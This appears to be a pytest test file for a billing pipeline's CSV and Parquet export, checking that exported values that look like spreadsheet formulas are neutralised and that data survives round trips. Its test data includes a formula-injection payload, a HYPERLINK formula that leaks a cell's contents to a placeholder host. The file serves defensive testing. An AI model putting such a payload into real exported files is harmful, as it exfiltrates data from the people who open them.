"""Exported files: text stays text in a spreadsheet, and every value survives a round trip."""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pandas as pd
import pytest

from billing_pipeline.errors import OutputError, WarehouseError
from billing_pipeline.warehouse import Warehouse, WarehouseFile
from billing_pipeline.warehouse.exporting import EXPORTABLE, FORMATS, FocusOptions, export_period, file_name
from billing_pipeline_tests.warehouse.reports import OTHER_CUSTOMER, SEPTEMBER, load, query, row, storage

pytestmark = pytest.mark.duckdb

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Rechnung")'
DANGEROUS = [
    FORMULA, "+49 (0)89 1234", "-1+1 Agentur", "@home Services", "\t=1+1", "\r=1+1", "\n=1", "＝1+1", "－1",
]  # fmt: skip
HARMLESS = ["007", "NULL", "NA", 'Wagner "IT" & Söhne, Inh.', "O'Reilly", "東京", "1E5", "a=b", "'quoted"]


@pytest.fixture(scope="module")
def loaded(tmp_path_factory: pytest.TempPathFactory) -> Warehouse:
    """September, and a row of October; no test changes it."""
    warehouse = WarehouseFile(tmp_path_factory.mktemp("exporting"))
    rows = [
        row(tenant_id=f"30000000-0000-4000-8000-0000000002{n:02d}", tenant_name=name, absolute_production=n)
        for n, name in enumerate([*DANGEROUS, *HARMLESS])
    ]
    rows += [
        storage(delta_production=-(10**21), sku=None, tenant_name=None, quota="18.5"),
        row(tenant_id=OTHER_CUSTOMER, extra='{"=x": "=1"}', customer_id="00123", absolute_production=1),
    ]
    load(warehouse, rows)
    load(warehouse, [row(absolute_production=1)], SEPTEMBER.next(), number=2)
    return warehouse


def csv_rows(warehouse: Warehouse, folder: Path, table: str = "usage") -> list[dict[str, str]]:
    path = folder / file_name(table, SEPTEMBER, "csv")
    export_period(warehouse, SEPTEMBER, table, "csv", path)
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_export_csv__formula__becomes_text(loaded: Warehouse, tmp_path: Path) -> None:
    names = [columns["tenant_name"] for columns in csv_rows(loaded, tmp_path)]

    assert names[: len(DANGEROUS)] == [f"'{name}" for name in DANGEROUS]
    assert names[len(DANGEROUS) : -2] == HARMLESS
    for columns in csv_rows(loaded, tmp_path):
        for name, value in columns.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), name
            assert not value.startswith("-") or Decimal(value) < 0, "a negative number is no formula"


def test_export_csv__values__keep_all_digits(loaded: Warehouse, tmp_path: Path) -> None:
    *_, bytes_row, last = csv_rows(loaded, tmp_path)

    assert bytes_row["delta_production"] == "-" + "1" + "0" * 21 + ".000000"
    assert bytes_row["quota"] == "18.500000"
    assert (bytes_row["sku"], bytes_row["tenant_name"]) == ("", "")
    assert last["customer_id"] == "00123"
    assert last["extra"] == '{"=x": "=1"}'
    assert last["is_range"] == "false"
    assert last["billing_period"] == "2026-09-01"


def test_export_csv__file__begins_with_a_byte_order_mark(loaded: Warehouse, tmp_path: Path) -> None:
    path = tmp_path / "usage.csv"
    export_period(loaded, SEPTEMBER, "usage", "csv", path)

    assert path.read_bytes().startswith(b"\xef\xbb\xbfbilling_period,period_start,")


def test_export_csv__focus_and_pipe__no_byte_order_mark(loaded: Warehouse, tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    export_period(loaded, SEPTEMBER, "focus", "csv", path, focus=FocusOptions("Alder MSP"))
    assert path.read_bytes()[:1].isalpha()

    export_period(loaded, SEPTEMBER, "usage", "csv", path, with_mark=False)
    assert path.read_bytes().startswith(b"billing_period,")


def test_export_csv__columns__in_the_order_of_the_table(loaded: Warehouse, tmp_path: Path) -> None:
    described = [columns["column_name"] for columns in query(loaded, "DESCRIBE usage")]

    assert list(csv_rows(loaded, tmp_path)[0]) == described
    assert [int(columns["report_row"]) for columns in csv_rows(loaded, tmp_path)] == list(range(1, 21))


def test_export_parquet__rows__equal_the_table(loaded: Warehouse, tmp_path: Path) -> None:
    path = tmp_path / "september.parquet"

    assert export_period(loaded, SEPTEMBER, "usage", "parquet", path) == 20

    with duckdb.connect(":memory:") as connection:
        connection.execute("SET TimeZone = 'UTC'")
        described = connection.execute(f"DESCRIBE FROM '{path}'").fetchall()
        rows = connection.execute(f"FROM '{path}'").fetchall()
    assert [(name, kind) for name, kind, *_ in described] == [
        (columns["column_name"], columns["column_type"]) for columns in query(loaded, "DESCRIBE usage")
    ]
    assert rows == [
        tuple(columns.values())
        for columns in query(
            loaded, f"FROM usage WHERE billing_period = '{SEPTEMBER.start}' ORDER BY report_row"
        )
    ]
    assert rows[0][5] == FORMULA


def test_export_csv__other_reader__reads_the_same(loaded: Warehouse, tmp_path: Path) -> None:
    path = tmp_path / "usage.csv"
    export_period(loaded, SEPTEMBER, "usage", "csv", path)

    frame = pd.read_csv(path, dtype=str, keep_default_na=False)

    assert frame["tenant_name"][9] == "007"
    assert sum(map(Decimal, frame["absolute_total"])) == sum(range(18)) + 1


@pytest.mark.slow
@pytest.mark.parametrize("table", EXPORTABLE)
@pytest.mark.parametrize("file_format", FORMATS)
def test_export__same_period_twice__same_file(
    loaded: Warehouse, tmp_path: Path, table: str, file_format: str
) -> None:
    paths = [tmp_path / "1", tmp_path / "2"]
    focus = FocusOptions("Example MSP")
    counts = {export_period(loaded, SEPTEMBER, table, file_format, path, focus=focus) for path in paths}
    month = {"focus": "BillingPeriodStart", "charge": "charge_period", "margin": "charge_period"}
    view = "focus_cost_and_usage" if table == "focus" else table
    (count,) = query(
        loaded,
        f"SELECT count(*) AS n FROM {view} WHERE {month.get(table, 'billing_period')} = '{SEPTEMBER.start}'",
    )

    assert counts == {count["n"]}
    assert paths[0].read_bytes() == paths[1].read_bytes()


def test_export__two_periods_loaded__writes_one(loaded: Warehouse, tmp_path: Path) -> None:
    assert len(csv_rows(loaded, tmp_path)) == 20


def test_export__period_not_loaded__is_refused(loaded: Warehouse, tmp_path: Path) -> None:
    with pytest.raises(WarehouseError, match="2026-08: the period is not loaded"):
        export_period(loaded, SEPTEMBER.previous(), "usage", "csv", tmp_path / "x.csv")
    assert not (tmp_path / "x.csv").exists()


@pytest.mark.parametrize("place", ["missing/x.csv", "."])
def test_export__unwritable_path__is_refused(loaded: Warehouse, tmp_path: Path, place: str) -> None:
    with pytest.raises(OutputError):
        export_period(loaded, SEPTEMBER, "usage", "csv", tmp_path / place)


def test_export__rename_fails__old_file_stays(
    loaded: Warehouse, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "usage.csv"
    path.write_text("the old one")

    def full(*_: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Path, "replace", full)
    with pytest.raises(OutputError, match="No space left on device"):
        export_period(loaded, SEPTEMBER, "usage", "csv", path)

    assert path.read_text() == "the old one"
    assert {found.name for found in tmp_path.iterdir()} == {"usage.csv"}
